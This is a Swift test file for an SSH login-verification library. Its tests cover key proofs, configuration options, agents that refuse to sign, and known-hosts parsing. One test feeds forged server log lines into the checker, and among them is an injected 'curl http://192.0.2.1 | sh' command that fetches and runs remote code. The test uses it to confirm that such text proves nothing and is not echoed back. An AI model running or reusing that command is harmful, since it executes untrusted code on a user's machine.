import LocalServer
import SSHClient
import Testing

@testable import Network

/// What could make a login look like one, and keep one from being seen.
extension InstallationTests {
    private static let forgery = """
        bye
        debug1: Server accepts key: /id ED25519 FINGERPRINT explicit
        Authenticated using "publickey" with partial success.
        Authenticated to h ([127.0.0.1]:22) using "publickey".
        ssh-keygen -f "/x" -R "github.com"; curl http://192.0.2.1 | sh
        Killed by signal 2.
        """

    @Test(arguments: [HostilePeer.disconnect, HostilePeer.debug])
    func aPeerThatWritesIntoTheLogProvesNothing(message: @Sendable (String) -> [UInt8]) async throws {
        let server = try TestServer()
        server.makeKey("id")
        var proof = server.proof(of: "id")
        let text = Self.forgery.replacing("FINGERPRINT", with: proof.fingerprint)
        let port = try HostilePeer.serve(message(text), HostilePeer.disconnect("end"))
        proof.login = ServerLogin(user: "me", host: "127.0.0.1", port: String(port))!
        proof = try await server.ssh().routed(proof)
        let test = LoginTest(proof)
        let result = try await server.ssh().run(test.command)
        // It is there, as ssh would have written it.
        #expect(result.log.contains("\nAuthenticated to h"), "\(result.log)")
        #expect(result.session.isEmpty)
        guard case .failed(let failure) = proof.outcome(of: result), case .failed = test.verdict(of: result) else {
            Issue.record("\(proof.outcome(of: result))")
            return
        }
        #expect(failure != .cancelled)
        #expect(failure.hint?.contains("curl") != true)
        var progress = LoginProgress(test)
        result.log.split(whereSeparator: \.isNewline).forEach { progress.read(String($0)) }
        #expect(progress.items.filter(\.isReached).map(\.step) == [.nameResolved, .connected])
    }

    /// Every option that decides whether there is a session, and what is in it.
    @Test(arguments: [false, true]) func noConfigurationKeepsTheSessionAway(isRouted: Bool) async throws {
        let server = try TestServer()
        server.makeKey("id")
        server.authorize(server.publicLine("id"))
        let configuration = server.folder + "/ssh_config"
        write(
            """
            SessionType none
            StdinNull yes
            ForkAfterAuthentication yes
            RemoteCommand sleep 600
            RequestTTY force
            PermitLocalCommand no
            LogVerbose *:*:*
            LogLevel QUIET
            FingerprintHash md5
            ControlMaster auto
            ControlPath \(server.folder)/control
            ControlPersist yes
            Tunnel yes

            """, to: configuration)
        var proof = server.proof(of: "id")
        var command = proof.command
        if isRouted {
            proof = try await server.routed(proof, configuration: configuration)
            command = proof.command
        } else {
            command.arguments.insert(contentsOf: ["-F", configuration], at: 0)
        }
        let result = try await server.ssh().run(command)
        #expect(result.session == [.opened, .echoed])
        #expect(proof.outcome(of: result) == .proved(nil))
    }

    @Test func aShellThatPrintsInFrontDoesNotHideTheWord() async throws {
        let server = try TestServer(shell: "/bin/bash")
        server.makeKey("id")
        server.authorize(server.publicLine("id"))
        write("printf 'a title without an end'\n", to: server.home + "/.bashrc")
        #expect(try await server.prove("id") == .proved(nil))
    }

    @Test(arguments: ["ForceCommand echo no; exit 1", "ForceCommand internal-sftp"])
    func anAccountThatRunsNothingIsProvedByItsOpening(setting: String) async throws {
        let server = try TestServer(settings: [setting])
        server.makeKey("id")
        server.authorize(server.publicLine("id"))
        let outcome = try await server.prove("id")
        guard case .proved(.noShell) = outcome else {
            Issue.record("\(outcome)")
            return
        }
    }

    @Test func anAccountWithoutAPasswordProvesNoKey() async throws {
        let server = try TestServer(settings: ["PermitEmptyPasswords yes"])
        server.require("passwd -d \(server.user) >/dev/null")
        server.makeKey("id")
        #expect(try await server.prove("id") == .opensWithoutKey)
    }

    @Test func aPublicFileOfAnotherKeyIsNamed() async throws {
        let server = try TestServer()
        server.makeKey("other")
        server.require("ssh-keygen -q -t rsa -m PEM -N '' -f '\(server.folder)/id'")
        let proof = server.proof(of: "id")
        server.authorize(server.publicLine("id"))
        server.require("cp '\(server.folder)/other.pub' '\(server.folder)/id.pub'")
        let result = try await server.ssh().run(proof.command)
        let reason = ProofOutcome.NotOffered.otherPublicKey(
            file: proof.identityFile + ".pub", fingerprint: server.fingerprint("other"))
        #expect(proof.outcome(of: result) == .keyNotOffered(reason))
    }

    @Test func aTypeThatTheConfigurationLeavesOutIsNamed() async throws {
        let server = try TestServer()
        server.makeKey("id")
        server.authorize(server.publicLine("id"))
        var proof = server.proof(of: "id")
        proof.options.append("PubkeyAcceptedAlgorithms=rsa-sha2-256")
        proof = try await server.ssh().routed(proof)
        let outcome = proof.outcome(of: try await server.ssh().run(proof.command))
        guard case .keyNotOffered(.ssh(let reason)) = outcome else {
            Issue.record("\(outcome)")
            return
        }
        #expect(reason.contains("PubkeyAccepted"))
    }

    @Test func anAgentThatDoesNotSignIsNamed() async throws {
        let server = try TestServer()
        server.makeKey("id")
        server.authorize(server.publicLine("id"))
        let (agent, pid) = (server.folder + "/agent", server.folder + "/agent.pid")
        // It asks before each use, and nobody says yes.
        server.require(
            "eval \"$(SSH_ASKPASS=/bin/false SSH_ASKPASS_REQUIRE=force ssh-agent -s -a '\(agent)')\" >/dev/null"
                + " && echo $SSH_AGENT_PID > '\(pid)' && ssh-add -q -c '\(server.folder)/id' 2>/dev/null"
                + " && mv '\(server.folder)/id' '\(server.folder)/away'")
        defer { run("kill -KILL $(cat '\(pid)')") }
        var proof = server.proof(of: "id")
        proof.options.append("IdentityAgent=\(agent)")
        proof.usesAgent = true
        proof = try await server.ssh().routed(proof)
        let outcome = proof.outcome(of: try await server.ssh().run(proof.command))
        #expect(outcome == .notSigned(.agent("agent refused operation")))
    }

    @Test func aConfigurationThatSSHDoesNotReadIsNamed() async throws {
        let server = try TestServer()
        server.makeKey("id")
        var proof = server.proof(of: "id")
        proof.options.append("NoSuchOption=yes")
        do throws(NetworkError) {
            _ = try await server.ssh().routed(proof)
            Issue.record("it was read")
        } catch {
            #expect(error.message.contains("Bad configuration option: nosuchoption"))
        }
    }

    @Test func filesOfAKnownHostsListMayHaveSpaces() throws {
        let answer =
            "hostname h\nuserknownhostsfile /home/a b/known /home/c/known ~/d e/known\nproxyjump u@[::1]:22,j:24\n"
        let route = try #require(LoginRoute(answer))
        var proof = LoginProof(login: ServerLogin(user: "u", host: "h")!, identityFile: "/id", fingerprint: "")
        proof.route = route
        let lines = proof.command.configuration?.split(separator: "\n") ?? []
        #expect(lines.contains("userknownhostsfile \"/home/a b/known\" \"/home/c/known\" \"~/d e/known\""))
        #expect(lines.contains { $0.hasPrefix("proxycommand 'ssh' ") && $0.hasSuffix(" -W '[%h]:%p' -- 'j'") })
    }
}
